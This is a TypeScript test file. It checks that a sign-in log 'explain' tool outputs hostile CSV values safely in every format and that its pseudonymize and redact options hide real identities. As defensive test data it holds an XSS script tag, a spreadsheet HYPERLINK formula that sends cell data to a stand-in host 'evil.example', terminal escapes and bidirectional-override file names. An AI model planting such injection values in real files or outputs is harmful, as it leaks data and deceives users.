// Explanations of hostile input and explanations for sharing. The hostile export (66 strings in each of seven
// fields, every row one flow) explained for its user, for a user whose name is hostile, and for a request id, in
// every format: nothing for people shows a control or direction character or active markup, the JSON keeps the
// exact values, stderr stays one safe line each. With --pseudonymize or --redact no format shows a real name,
// address or application of the sample, and the same key gives the same explanation.

import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { EXPLAIN_FORMATS } from '../src/render/explain/index.js';
import type { JsonExplanation } from '../src/render/explain/json-contract.js';
import { repoRoot } from './helpers/exec.js';
import { expectSafeForPeople, expectSafeStderr, HOSTILE_STRINGS, hostileAuthDetailsCsv, hostilePortalCsv } from './helpers/hostile.js';
import { runMain } from './helpers/io.js';
import { expectValidJsonExplanation } from './helpers/report-schema.js';

const dir = mkdtempSync(path.join(tmpdir(), 'explain-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const NOW = ['--now', '2026-11-16T08:00:00Z'];

const INPUT = path.join(dir, 'Interactive\u202eSignIns\u001b[31m.csv');
writeFileSync(INPUT, hostilePortalCsv());
writeFileSync(INPUT, 'not,a,row\n', { flag: 'a' });
const hostileRows = parse(hostilePortalCsv(), { columns: true }) as Record<string, string>[];
// Its authentication details carry the hostile strings as MFA methods and result texts.
const DETAILS = path.join(dir, 'Interactive\u202eSignIns_AuthDetails.csv');
writeFileSync(DETAILS, hostileAuthDetailsCsv());

/** The checks of each format: the JSON keeps the exact values, the rest are for people. */
function expectSafe(format: string, output: string, values: readonly string[]): void {
  if (format === 'json') {
    const text = JSON.stringify(expectValidJsonExplanation(output));
    for (const value of values) expect(text).toContain(JSON.stringify(value).slice(1, -1));
    return;
  }
  expectSafeForPeople(output, format);
  if (format === 'html') for (const value of HOSTILE_STRINGS.filter((text) => /<[a-z/!]/i.test(text))) expect(output).not.toContain(value);
}

describe('hostile values in every format', () => {
  const template = hostileRows[0]!;
  const subjects = [
    // The user of the template row: every hostile application, address, place, reason and client app is theirs.
    ['the user', template['Username']!, ['<script>alert("x")</script>', '=HYPERLINK("https://evil.example/?q="&A1,"Open report")']],
    // A user whose name is itself hostile: it is echoed in the headline.
    ['a hostile user name', 'admin\u202egnp.exe', ['admin\u202egnp.exe']],
    // One sign-in whose failure reason is a terminal escape.
    ['a request id', hostileRows.find((row) => row['Failure reason'] === '\u001b[2J\u001b[Hcleared')!['Request ID']!, ['\u001b[2J\u001b[Hcleared']],
  ] as const;

  it.each(subjects.flatMap(([what, subject, values]) => EXPLAIN_FORMATS.map((format) => [what, format, subject, values] as const)))(
    '%s, %s',
    async (_what, format, subject, values) => {
      const result = await runMain(['explain', subject, INPUT, ...NOW, '--format', format]);
      expect(result.status, result.stderr).toBe(0);
      expectSafeStderr(result.stderr);
      expectSafe(format, result.stdout, values);
    },
  );

  it.each(EXPLAIN_FORMATS)('hostile MFA methods and result texts of the authentication details, %s', async (format) => {
    const result = await runMain(['explain', hostileRows[0]!['Username']!, INPUT, DETAILS, ...NOW, '--format', format]);
    expect(result.status, result.stderr).toBe(0);
    expectSafeStderr(result.stderr);
    expectSafe(format, result.stdout, []);
    if (format !== 'json') expect(result.stdout).toContain('The authentication details say');
    else {
      // Each step's MFA step is the row of the details with its request id, hostile text and all (the reader trims
      // the ends of a cell; a lone surrogate, written to the file as UTF-8, comes back as U+FFFD).
      const read = (cell: string) => Buffer.from(cell).toString().trim();
      const details = parse(hostileAuthDetailsCsv(), { columns: true }) as Record<string, string>[];
      const byRequest = new Map(
        details.map((row) => [row['Request ID']!, { method: read(row['Authentication method']!), succeeded: false, detail: read(row['Result detail']!) }]),
      );
      const steps = (JSON.parse(result.stdout) as JsonExplanation).flows.flatMap((flow) => flow.steps);
      const joined = steps.filter((step) => byRequest.has(step.requestId));
      expect(joined.length).toBeGreaterThan(HOSTILE_STRINGS.length / 2);
      for (const step of joined) expect(step.mfa).toEqual(byRequest.get(step.requestId));
    }
  });

  it('a hostile subject that is not there is one safe line on stderr', async () => {
    const result = await runMain(['explain', '\u001b]0;x\u0007\u202eno\nbody', INPUT, ...NOW]);
    expect(result.status).toBe(1);
    expectSafeStderr(result.stderr);
  });
});

describe('an explanation for sharing', () => {
  const SAMPLE = 'fixtures/sample/InteractiveSignIns_sample.csv';
  const sample = parse(readFileSync(path.join(repoRoot, SAMPLE), 'utf8').replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
  /** Every user, address and application the sample holds: an explanation for sharing shows none of them. */
  const secrets = [
    ...new Set(sample.flatMap((row) => [row['Username']!, row['User']!, row['User ID']!, row['IP address']!, row['Application']!, row['Application ID ']!])),
  ].filter((value) => value.length > 0);
  const key = path.join(dir, 'share.key');
  const megan = sample.find((row) => row['Username'] === 'megan.bowen@contoso.example')!;
  const blocked = sample.find((row) => row['Sign-in error code'] === '53003')!;

  it.each(
    ['megan.bowen@contoso.example', blocked['Request ID']!].flatMap((subject) =>
      ['--pseudonymize', '--redact'].flatMap((option) => EXPLAIN_FORMATS.map((format) => [subject, option, format] as const)),
    ),
  )('%s with %s users,ips,apps, %s: no real name, address or application', async (subject, option, format) => {
    const args = [
      'explain',
      subject,
      SAMPLE,
      ...NOW,
      '--format',
      format,
      option,
      'users,ips,apps',
      ...(option === '--pseudonymize' ? ['--key-file', key] : []),
    ];
    const result = await runMain(args);
    expect(result.status, result.stderr).toBe(0);
    const shown = format === 'json' ? JSON.stringify(JSON.parse(result.stdout)) : result.stdout;
    expect(secrets.filter((secret) => shown.includes(secret))).toEqual([]);
    if (format === 'json') {
      const explanation = JSON.parse(result.stdout) as JsonExplanation;
      expect(explanation.privacy).toMatchObject({ [option === '--pseudonymize' ? 'pseudonymized' : 'redacted']: ['users', 'ips', 'apps'] });
      // Still an explanation: the same flows and diagnosis, under other names.
      expect(explanation.diagnosis.length).toBeGreaterThan(0);
    }
  });

  it('the same key gives the same explanation, and the pseudonyms stand for the real names one to one', async () => {
    const run = async (subject: string) =>
      JSON.parse(
        (await runMain(['explain', subject, SAMPLE, ...NOW, '--format', 'json', '--pseudonymize', 'users,ips', '--key-file', key])).stdout,
      ) as JsonExplanation;
    const first = await run('megan.bowen@contoso.example');
    const again = await run(megan['User']!);
    expect(again.flows).toEqual(first.flows);
    expect(again.diagnosis).toEqual(first.diagnosis);
    const plain = JSON.parse((await runMain(['explain', 'megan.bowen@contoso.example', SAMPLE, ...NOW, '--format', 'json'])).stdout) as JsonExplanation;
    // Where the real explanation names the same address twice, the shared one names the same pseudonym twice.
    const pairs = new Map<string, string>();
    for (const [i, flow] of plain.flows.entries()) {
      const pseudonym = first.flows[i]!.ip;
      expect(pairs.get(flow.ip) ?? pseudonym).toBe(pseudonym);
      pairs.set(flow.ip, pseudonym);
    }
    expect(new Set(pairs.values()).size).toBe(pairs.size);
    expect([...pairs.values()].every((ip) => ip.startsWith('ip-'))).toBe(true);
    expect(first.subject.user.principalName).toMatch(/^user-[0-9a-f]{12}$/);
  });
});
